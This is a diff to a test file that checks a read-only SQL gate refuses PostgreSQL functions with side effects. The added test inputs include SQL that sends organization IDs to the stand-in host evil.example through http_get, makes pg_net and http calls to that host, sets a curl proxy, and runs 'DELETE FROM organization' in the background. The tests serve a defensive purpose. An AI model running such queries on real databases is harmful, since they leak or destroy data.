@@ -236,9 +236,22 @@ Deno.test("the read-only gate refuses PostgreSQL's functions with side effects, 
       "pg_nextoid('t', 'c', 'i')",
       "binary_upgrade_set_next_pg_type_oid(1)",
       "set_config('statement_timeout', '0', true)",
+      // newer servers' (16, 17)
+      "pg_log_standby_snapshot()",
+      "pg_sync_replication_slots()",
+      // extensions that reach other servers from the READ ONLY transaction, or run SQL outside
+      // it: Supabase's http (pgsql-http) and pg_net, pg_background, aws_s3
+      "http(('GET', 'https://evil.example/', NULL, NULL, NULL)::http_request)",
+      "extensions.http_get('https://evil.example/?d=' || (SELECT string_agg(id::text, ',') FROM organization))",
+      "http_post('https://evil.example/', 'x', 'text/plain')",
+      "net.http_get('https://evil.example/')",
+      "http_set_curlopt('CURLOPT_PROXY', 'evil.example')",
+      "pg_background_launch('DELETE FROM organization')",
+      "pg_background_result(1)",
+      "aws_s3.query_export_to_s3('SELECT 1', 'b', 'k')",
     ]
   ) {
-    const name = call.replace(/^pg_catalog\./, "").split("(")[0];
+    const name = call.replace(/^(pg_catalog|extensions|net|aws_s3)\./, "").split("(")[0];
     assertEquals(
       gate(`SELECT ${call} AS x`, "postgres"),
       `function ${name}() is refused: it reads files, reaches other servers or has side effects`,
@@ -258,6 +271,9 @@ Deno.test("the read-only gate refuses PostgreSQL's functions with side effects, 
       "currval('s')",
       "pg_sleep(0)",
       "lower('x')",
+      // a column named http, and functions whose names only start like the refused ones
+      "(SELECT http FROM (SELECT 1 AS http) AS t)",
+      "httpd_status(1)",
     ]
   ) assertEquals(gate(`SELECT ${call} AS x`, "postgres"), "accepted", call);
 });
